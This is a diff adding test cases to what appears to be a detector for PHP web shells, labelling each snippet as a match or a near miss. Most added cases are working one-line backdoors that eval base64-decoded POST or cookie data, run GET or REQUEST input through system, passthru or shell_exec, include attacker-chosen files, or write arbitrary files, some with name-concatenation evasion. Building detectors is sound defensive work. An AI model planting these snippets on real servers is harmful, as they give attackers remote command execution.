@@ -1125,6 +1125,201 @@ CASES: list[tuple[str, bytes, bool]] = [
         padded("<?php parse_str($_POST['q'], $v); $v['f']($v['a']);\n"),
         True,
     ),
+    # --- third batch (written after the second widening) ---
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        b"<?php if(isset($_POST['k'])){$k=$_POST['k'];eval(base64_decode($k));}\n",
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        b"<?php $_a = $_REQUEST['_a']; if ($_a) { print shell_exec(base64_decode($_a)); }\n",
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_SmallInputAndSink",
+        b"<?php\n$cmd = isset($_GET['cmd']) ? $_GET['cmd'] : 'id';\necho '<pre>' . htmlspecialchars(shell_exec($cmd)) . '</pre>';\n",
+        True,
+    ),
+    ("SPAMGEAR_INPUT_AdjacentInputToSink", b"<?php $c = stripslashes($_POST['c']); @eval($c);\n", True),
+    (
+        "SPAMGEAR_EVASION_HeaderToSinkTiny",
+        b"<?php $h = $_SERVER['HTTP_COOKIE']; preg_match('/x=([^;]+)/', $h, $m); eval(base64_decode($m[1]));\n",
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        b"<?php @$__=$_POST['__'];@$___=base64_decode($__);@eval($___);\n",
+        True,
+    ),
+    ("SPAMGEAR_INPUT_AdjacentInputToSink", b'<?php $s = $_GET["s"]; $r = system($s, $ret);\n', True),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        b"<?php $x = $_COOKIE['x']; $y = $_COOKIE['y']; echo $x($y);\n",
+        True,
+    ),
+    ("SPAMGEAR_INPUT_AdjacentInputToSink", b"<?php $p = $_POST['p']; @eval(\"return $p;\");\n", True),
+    (
+        "SPAMGEAR_INPUT_ShellOfInput",
+        b"<?php $o = []; exec($_REQUEST['c'] . ' 2>&1', $o); echo join(\"\\n\", $o);\n",
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        b"<?php $d = $_POST['d']; $f = $_POST['f']; @file_put_contents($f, $d); echo 'OK';\n",
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_ArbitraryFileWrite",
+        b"<?php $f = $_FILES['f']; move_uploaded_file($f['tmp_name'], $_POST['to']);\n",
+        True,
+    ),
+    ("SPAMGEAR_INPUT_AdjacentInputToSink", b"<?php $i = $_GET['i']; include($i);\n", True),
+    ("SPAMGEAR_INPUT_AdjacentInputToSink", b"<?php $l = $_REQUEST['l']; require_once $l;\n", True),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        b"<?php $cb = $_GET['cb']; array_map($cb, array($_GET['v']));\n",
+        True,
+    ),
+    ("SPAMGEAR_OBFUSC_ConcatSinkName", b"<?php $t = $_POST['t']; $fn = 'ass' . 'ert'; $fn($t);\n", True),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        b"<?php $q = base64_decode($_SERVER['HTTP_X_TOKEN']); if ($q) { system($q); }\n",
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_SmallInputAndSink",
+        b"<?php\n$input = $_POST;\nforeach ($input as $key => $value) {\n    if ($key === 'run') { passthru($value); }\n}\n",
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_TinyIncludeOfInputVar",
+        b"<?php $b64 = $_REQUEST['p']; $src = base64_decode($b64); $tmp = tempnam('/tmp', 'x'); file_put_contents($tmp, $src); include $tmp;\n",
+        True,
+    ),
+    ("SPAMGEAR_INPUT_AdjacentInputToSink", b"<?php $w = $_GET['w']; echo passthru($w);\n", True),
+    ("SPAMGEAR_INPUT_AdjacentInputToSink", b"<?php $c=$_POST[1];$c&&@system($c);\n", True),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        b"<?php $z = gzuncompress(base64_decode($_POST['z'])); eval($z);\n",
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        b"<?php $n = $_GET['n']; $a = $_GET['a']; echo call_user_func_array($n, [$a]);\n",
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        b"<?php $arr = [$_GET['a'], $_GET['b']]; $arr[0]($arr[1]);\n",
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        padded("<?php if(isset($_POST['k'])){$k=$_POST['k'];eval(base64_decode($k));}\n"),
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        padded("<?php $_a = $_REQUEST['_a']; if ($_a) { print shell_exec(base64_decode($_a)); }\n"),
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        padded("<?php $c = stripslashes($_POST['c']); @eval($c);\n"),
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        padded("<?php @$__=$_POST['__'];@$___=base64_decode($__);@eval($___);\n"),
+        True,
+    ),
+    ("SPAMGEAR_INPUT_AdjacentInputToSink", padded('<?php $s = $_GET["s"]; $r = system($s, $ret);\n'), True),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        padded("<?php $x = $_COOKIE['x']; $y = $_COOKIE['y']; echo $x($y);\n"),
+        True,
+    ),
+    ("SPAMGEAR_INPUT_AdjacentInputToSink", padded("<?php $p = $_POST['p']; @eval(\"return $p;\");\n"), True),
+    (
+        "SPAMGEAR_INPUT_ShellOfInput",
+        padded("<?php $o = []; exec($_REQUEST['c'] . ' 2>&1', $o); echo join(\"\\n\", $o);\n"),
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        padded("<?php $d = $_POST['d']; $f = $_POST['f']; @file_put_contents($f, $d); echo 'OK';\n"),
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_ArbitraryFileWrite",
+        padded("<?php $f = $_FILES['f']; move_uploaded_file($f['tmp_name'], $_POST['to']);\n"),
+        True,
+    ),
+    ("SPAMGEAR_INPUT_AdjacentInputToSink", padded("<?php $i = $_GET['i']; include($i);\n"), True),
+    ("SPAMGEAR_INPUT_AdjacentInputToSink", padded("<?php $l = $_REQUEST['l']; require_once $l;\n"), True),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        padded("<?php $cb = $_GET['cb']; array_map($cb, array($_GET['v']));\n"),
+        True,
+    ),
+    (
+        "SPAMGEAR_OBFUSC_ConcatSinkName",
+        padded("<?php $t = $_POST['t']; $fn = 'ass' . 'ert'; $fn($t);\n"),
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        padded("<?php $q = base64_decode($_SERVER['HTTP_X_TOKEN']); if ($q) { system($q); }\n"),
+        True,
+    ),
+    ("SPAMGEAR_INPUT_AdjacentInputToSink", padded("<?php $w = $_GET['w']; echo passthru($w);\n"), True),
+    ("SPAMGEAR_INPUT_AdjacentInputToSink", padded("<?php $c=$_POST[1];$c&&@system($c);\n"), True),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        padded("<?php $z = gzuncompress(base64_decode($_POST['z'])); eval($z);\n"),
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        padded("<?php $n = $_GET['n']; $a = $_GET['a']; echo call_user_func_array($n, [$a]);\n"),
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        padded("<?php $arr = [$_GET['a'], $_GET['b']]; $arr[0]($arr[1]);\n"),
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        b"<?php $lang = $_GET['lang']; include __DIR__ . '/lang/en.php';\n",
+        False,
+    ),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        padded("<?php $lang = $_GET['lang']; include __DIR__ . '/lang/en.php';\n"),
+        False,
+    ),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        b"<?php $page = $_GET['page']; $ok = $page && is_numeric($page); render($page);\n",
+        False,
+    ),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        padded("<?php $page = $_GET['page']; $ok = $page && is_numeric($page); render($page);\n"),
+        False,
+    ),
+    (
+        "SPAMGEAR_INPUT_ArbitraryFileWrite",
+        b"<?php move_uploaded_file($_FILES['f']['tmp_name'], $dir . basename($name));\n",
+        False,
+    ),
+    (
+        "SPAMGEAR_INPUT_ArbitraryFileWrite",
+        padded("<?php move_uploaded_file($_FILES['f']['tmp_name'], $dir . basename($name));\n"),
+        False,
+    ),
     # --- near misses for the rules added or widened by issue 4k ---
     (
         "SPAMGEAR_INPUT_AdjacentInputToSink",
